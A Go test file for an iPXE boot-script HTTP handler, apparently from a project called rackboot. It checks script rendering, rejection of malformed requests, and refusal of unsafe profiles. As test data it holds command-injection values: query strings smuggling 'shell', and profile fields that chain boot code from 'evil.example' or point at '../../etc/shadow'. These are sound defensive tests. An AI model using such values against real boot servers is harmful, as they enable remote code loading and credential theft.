package ipxe

import (
	"bytes"
	"context"
	"io"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/rackboot/rackboot/profiles"
)

// syncBuffer is a log sink the server's goroutines and the test share.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

type scriptCall struct {
	MAC     string
	Outcome string
}

// serve starts h on a real loopback socket and records its OnScript calls.
func serve(t *testing.T, h *Handler) (srv *httptest.Server, logs *syncBuffer, calls func() []scriptCall) {
	t.Helper()
	logs = &syncBuffer{}
	h.Log = slog.New(slog.NewTextHandler(logs, nil))
	var mu sync.Mutex
	var got []scriptCall
	h.OnScript = func(mac net.HardwareAddr, outcome string) {
		mu.Lock()
		defer mu.Unlock()
		got = append(got, scriptCall{mac.String(), outcome})
	}
	srv = httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return srv, logs, func() []scriptCall {
		mu.Lock()
		defer mu.Unlock()
		return append([]scriptCall(nil), got...)
	}
}

func get(t *testing.T, method, url string, header map[string]string) (*http.Response, string) {
	t.Helper()
	req, err := http.NewRequestWithContext(context.Background(), method, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	for k, v := range header {
		if k == "Host" {
			req.Host = v
			continue
		}
		req.Header.Set(k, v)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(b)
}

func TestHandlerScripts(t *testing.T) {
	srv, logs, calls := serve(t, &Handler{Hosts: fleet(nil)})
	base := srv.URL // http://127.0.0.1:PORT: the connection's local address
	mustRender := func(f Facts, hosts Hosts, discovery bool) string {
		s, err := Render(Appliance{Base: base}, f, Decide(f, hosts, discovery))
		if err != nil {
			t.Fatal(err)
		}
		return s
	}
	boot, err := BootScript(base)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		name   string
		path   string
		header map[string]string
		want   string
	}{
		{"boot.ipxe", "/boot.ipxe", nil, boot},
		{"boot.ipxe ignores the Host header", "/boot.ipxe", map[string]string{"Host": "evil.example:666"}, boot},
		{"known host", "/ipxe?mac=52-54-00-00-01-01&arch=x86_64&platform=efi&uuid=8b3d5c2e-0d4a-4c1e-9f6b-2a1c3e4d5f60",
			nil, mustRender(Facts{MAC: macKnown, Arch: "x86_64", Platform: "efi", UUID: "8b3d5c2e-0d4a-4c1e-9f6b-2a1c3e4d5f60"}, fleet(nil), false)},
		{"unknown host", "/ipxe?mac=52-54-00-00-09-09&arch=i386&platform=pcbios&uuid=",
			nil, mustRender(Facts{MAC: macUnknown, Arch: "i386", Platform: "pcbios"}, fleet(nil), false)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := get(t, http.MethodGet, srv.URL+tt.path, tt.header)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("status %d, body %q", resp.StatusCode, body)
			}
			if ct := resp.Header.Get("Content-Type"); ct != "text/plain; charset=utf-8" {
				t.Errorf("Content-Type %q", ct)
			}
			if cc := resp.Header.Get("Cache-Control"); cc != "no-store" {
				t.Errorf("Cache-Control %q", cc)
			}
			if diff := cmp.Diff(tt.want, body); diff != "" {
				t.Errorf("script mismatch (-want +got):\n%s", diff)
			}
		})
	}
	t.Run("HEAD", func(t *testing.T) {
		resp, body := get(t, http.MethodHead, srv.URL+"/boot.ipxe", nil)
		if resp.StatusCode != http.StatusOK || body != "" || resp.ContentLength != int64(len(boot)) {
			t.Errorf("HEAD: status %d, body %q, length %d; want 200, empty, %d", resp.StatusCode, body, resp.ContentLength, len(boot))
		}
	})

	wantCalls := []scriptCall{{"52:54:00:00:01:01", OutcomeInstaller}, {"52:54:00:00:09:09", OutcomeUnknown}}
	if diff := cmp.Diff(wantCalls, calls()); diff != "" {
		t.Errorf("OnScript calls mismatch (-want +got):\n%s", diff)
	}
	// The end-to-end test greps these lines to tie a machine to its script.
	for _, want := range []string{
		`msg="script served" ip=127.0.0.1 path=/ipxe mac=52:54:00:00:01:01 arch=x86_64 platform=efi uuid=8b3d5c2e-0d4a-4c1e-9f6b-2a1c3e4d5f60 host=r1-n01 outcome=installer`,
		`msg="script served" ip=127.0.0.1 path=/ipxe mac=52:54:00:00:09:09 arch=i386 platform=pcbios uuid="" outcome=unknown`,
		`msg="boot script served" ip=127.0.0.1 path=/boot.ipxe server=` + base,
	} {
		if !strings.Contains(logs.String(), want) {
			t.Errorf("log lacks %q; log:\n%s", want, logs)
		}
	}
}

func TestHandlerBadRequests(t *testing.T) {
	srv, logs, calls := serve(t, &Handler{Hosts: fleet(nil)})
	tests := []struct {
		name, method, path string
		status             int
		reason             string
	}{
		{"no mac", "GET", "/ipxe?arch=x86_64", 400, "mac: missing"},
		{"bad mac", "GET", "/ipxe?mac=52-54-00", 400, "mac: not a 48-bit MAC address"},
		{"hostile mac", "GET", "/ipxe?mac=%24%7Bnet0%2Fmac%7D%0Ashell", 400, "mac: not a 48-bit MAC address"},
		{"bad arch", "GET", "/ipxe?mac=52-54-00-00-01-01&arch=x86_64%20%7C%7C%20shell", 400, "arch: unknown"},
		{"bad platform", "GET", "/ipxe?mac=52-54-00-00-01-01&platform=%23efi", 400, "platform: unknown"},
		{"bad uuid", "GET", "/ipxe?mac=52-54-00-00-01-01&uuid=%24%7Buuid%7D", 400, "uuid:"},
		{"unknown parameter", "GET", "/ipxe?mac=52-54-00-00-01-01&x%0Ay=1", 400, `unknown parameter "x\ny"`},
		{"malformed query", "GET", "/ipxe?mac=%zz", 400, "malformed query"},
		{"semicolon query", "GET", "/ipxe?mac=52-54-00-00-01-01;arch=x86_64", 400, "malformed query"},
		{"POST", "POST", "/ipxe?mac=52-54-00-00-01-01", 405, "method not allowed"},
		{"other path", "GET", "/ipxe/x", 404, "404 page not found"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := get(t, tt.method, srv.URL+tt.path, nil)
			if resp.StatusCode != tt.status {
				t.Fatalf("status %d, want %d (body %q)", resp.StatusCode, tt.status, body)
			}
			if ct := resp.Header.Get("Content-Type"); ct != "text/plain; charset=utf-8" {
				t.Errorf("Content-Type %q", ct)
			}
			if !strings.Contains(body, tt.reason) {
				t.Errorf("body %q lacks the reason %q", body, tt.reason)
			}
			for _, bad := range []string{"${", "shell", "||", "#!ipxe"} {
				if strings.Contains(body, bad) {
					t.Errorf("body %q echoes %q", body, bad)
				}
			}
		})
	}
	if c := calls(); len(c) != 0 {
		t.Errorf("OnScript called for bad requests: %v", c)
	}
	if !strings.Contains(logs.String(), `level=WARN msg="bad script request" ip=127.0.0.1 path=/ipxe outcome=bad-request err="mac: missing`) {
		t.Errorf("bad request not logged; log:\n%s", logs)
	}
}

// TestHandlerRefusesHostileProfile serves a host whose profile values would
// inject commands, and wants exactly the refusal script.
func TestHandlerRefusesHostileProfile(t *testing.T) {
	hosts := fakeHosts{hosts: map[string]*profiles.Host{}}
	hostile := []*profiles.Host{
		{Hostname: "r1-n01\necho pwned", Installer: agentInstaller()},
		{Hostname: "r1-${net0/ip}", Installer: agentInstaller()},
		{Installer: &profiles.Installer{Kernel: "vmlinuz", Cmdline: "quiet ;shell"}},
		{Installer: &profiles.Installer{Kernel: "vmlinuz", Cmdline: "quiet || chain http://evil.example/x"}},
		{Installer: &profiles.Installer{Kernel: "vmlinuz", Cmdline: "quiet\nchain http://evil.example/x"}},
		{Installer: &profiles.Installer{Kernel: "vmlinuz", Cmdline: "rackboot.server=http://evil.example"}},
		{Installer: &profiles.Installer{Kernel: "vmlinuz ${x}", Initrd: "agent.img"}},
		{Installer: &profiles.Installer{Kernel: "vmlinuz", Initrd: "../../etc/shadow"}},
		{Installer: &profiles.Installer{Kernel: "http://evil.example/k && shell"}},
	}
	var want []scriptCall
	var macs []net.HardwareAddr
	for i, h := range hostile {
		h.MAC = net.HardwareAddr{0x52, 0x54, 0, 0, 0x0e, byte(i)}
		hosts.hosts[h.MAC.String()] = h
		macs = append(macs, h.MAC)
		want = append(want, scriptCall{h.MAC.String(), OutcomeRefused})
	}
	srv, logs, calls := serve(t, &Handler{Hosts: hosts})
	for i, mac := range macs {
		t.Run(hostile[i].Hostname+hostile[i].Installer.Kernel+hostile[i].Installer.Initrd+hostile[i].Installer.Cmdline, func(t *testing.T) {
			resp, body := get(t, "GET", srv.URL+"/ipxe?mac="+hyphenMAC(mac)+"&arch=x86_64&platform=efi", nil)
			if resp.StatusCode != http.StatusOK {
				t.Fatalf("status %d", resp.StatusCode)
			}
			wantLines := []string{
				"#!ipxe",
				"echo rackboot: refusing to boot " + mac.String() + ": its profile holds a value that is unsafe in an iPXE script",
				"echo rackboot: the rackboot log says which",
				"echo rackboot: trying the next boot device in 10 seconds",
				"sleep 10",
				"exit 1",
			}
			if diff := cmp.Diff(wantLines, strings.Split(strings.TrimSuffix(body, "\n"), "\n")); diff != "" {
				t.Errorf("script lines mismatch (-want +got):\n%s", diff)
			}
		})
	}
	if diff := cmp.Diff(want, calls()); diff != "" {
		t.Errorf("OnScript calls mismatch (-want +got):\n%s", diff)
	}
	if n := strings.Count(logs.String(), `level=ERROR msg="script refused"`); n != len(hostile) {
		t.Errorf("%d refusals logged, want %d; log:\n%s", n, len(hostile), logs)
	}
}

func TestHandlerBase(t *testing.T) {
	tests := []struct {
		name string
		h    *Handler
		want string // "" means a 500
	}{
		{"local address", &Handler{}, "http://127.0.0.1:PORT"},
		{"local address, port override", &Handler{Port: 80}, "http://127.0.0.1"},
		{"advertise host", &Handler{Advertise: "boot.example.com"}, "http://boot.example.com:PORT"},
		{"advertise host and port", &Handler{Advertise: "boot.example.com:8080"}, "http://boot.example.com:8080"},
		{"advertise, port override", &Handler{Advertise: "192.0.2.1:8080", Port: 9090}, "http://192.0.2.1:9090"},
		{"advertise IPv6", &Handler{Advertise: "2001:db8::1", Port: 8080}, "http://[2001:db8::1]:8080"},
		{"advertise bracketed IPv6", &Handler{Advertise: "[2001:db8::1]", Port: 80}, "http://[2001:db8::1]"},
		{"advertise hostile", &Handler{Advertise: "x${y}"}, ""},
		{"advertise with path", &Handler{Advertise: "x/y"}, ""},
		{"bad port", &Handler{Port: 70000}, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv, _, _ := serve(t, tt.h)
			_, port, err := net.SplitHostPort(strings.TrimPrefix(srv.URL, "http://"))
			if err != nil {
				t.Fatal(err)
			}
			resp, body := get(t, "GET", srv.URL+"/boot.ipxe", nil)
			if tt.want == "" {
				if resp.StatusCode != http.StatusInternalServerError {
					t.Errorf("status %d, want 500; body %q", resp.StatusCode, body)
				}
				return
			}
			want, err := BootScript(strings.ReplaceAll(tt.want, "PORT", port))
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(want, body); diff != "" {
				t.Errorf("boot.ipxe mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

// TestHandlerAPIOverHTTPS: with APIPort and CA set, the script loads over
// the connection's plain URL while the installer is pointed at the agent
// API over HTTPS on the same host and loads the CA archive.
func TestHandlerAPIOverHTTPS(t *testing.T) {
	srv, _, _ := serve(t, &Handler{Hosts: fleet(nil), APIPort: 8443, CA: "/nbp/rackboot-ca.cpio.gz"})
	f := Facts{MAC: macKnown, Arch: "x86_64", Platform: "efi"}
	want, err := Render(Appliance{Base: srv.URL, API: "https://127.0.0.1:8443", CA: "/nbp/rackboot-ca.cpio.gz"}, f, Decide(f, fleet(nil), false))
	if err != nil {
		t.Fatal(err)
	}
	_, got := get(t, http.MethodGet, srv.URL+"/ipxe?mac=52-54-00-00-01-01&arch=x86_64&platform=efi&uuid=", nil)
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("script (-want +got):\n%s", d)
	}
	for _, s := range []string{"rackboot.server=https://127.0.0.1:8443 ", "initrd --name rackboot-ca.cpio.gz " + srv.URL + "/nbp/rackboot-ca.cpio.gz "} {
		if !strings.Contains(got, s) {
			t.Errorf("script lacks %q:\n%s", s, got)
		}
	}
}

// TestHandlerPeerAPIs: the other appliances' agent APIs, as PeerAPIs
// says at each script, go after the handler's own in rackboot.server=;
// a cached script does not outlive a change of the list.
func TestHandlerPeerAPIs(t *testing.T) {
	var peers []string
	srv, _, _ := serve(t, &Handler{Hosts: fleet(nil), APIPort: 8443, PeerAPIs: func() []string { return peers }})
	url := srv.URL + "/ipxe?mac=52-54-00-00-01-01&arch=x86_64&platform=efi"
	for _, tt := range []struct {
		name  string
		peers []string
		want  string
	}{
		{"none", nil, "rackboot.server=https://127.0.0.1:8443 "},
		{"one", []string{"https://192.0.2.2:8443"}, "rackboot.server=https://127.0.0.1:8443,https://192.0.2.2:8443 "},
		{"two", []string{"https://192.0.2.3:8443", "https://192.0.2.2:8443"}, "rackboot.server=https://127.0.0.1:8443,https://192.0.2.3:8443,https://192.0.2.2:8443 "},
		{"one left", []string{"https://192.0.2.2:8443"}, "rackboot.server=https://127.0.0.1:8443,https://192.0.2.2:8443 "},
	} {
		t.Run(tt.name, func(t *testing.T) {
			peers = tt.peers
			_, got := get(t, http.MethodGet, url, nil)
			if !strings.Contains(got, tt.want) {
				t.Errorf("script lacks %q:\n%s", tt.want, got)
			}
		})
	}
}
